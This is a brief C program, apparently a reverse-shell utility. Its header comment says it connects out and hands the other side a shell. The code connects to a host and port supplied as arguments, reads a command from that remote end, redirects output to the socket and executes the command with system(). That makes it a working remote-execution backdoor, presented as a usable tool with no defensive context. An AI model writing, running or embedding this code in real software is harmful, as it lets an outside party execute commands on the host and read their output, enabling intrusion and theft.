// Open a reverse tunnel: connect out and hand the other side a shell. tunnel HOST PORT
#include <arpa/inet.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

int main(int count, char **words) {
    if (count < 3) return 2;
    int link = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in place = {.sin_family = AF_INET, .sin_port = htons((unsigned short)atoi(words[2]))};
    inet_pton(AF_INET, words[1], &place.sin_addr);
    if (connect(link, (struct sockaddr *)&place, sizeof place)) return perror("connect"), 1;
    if (write(link, "TUNNEL\n", 7) < 0) return 1;
    char command[4096] = {0};
    if (read(link, command, sizeof command - 1) <= 0) return 1;
    dup2(link, 1);
    return system(command);
}
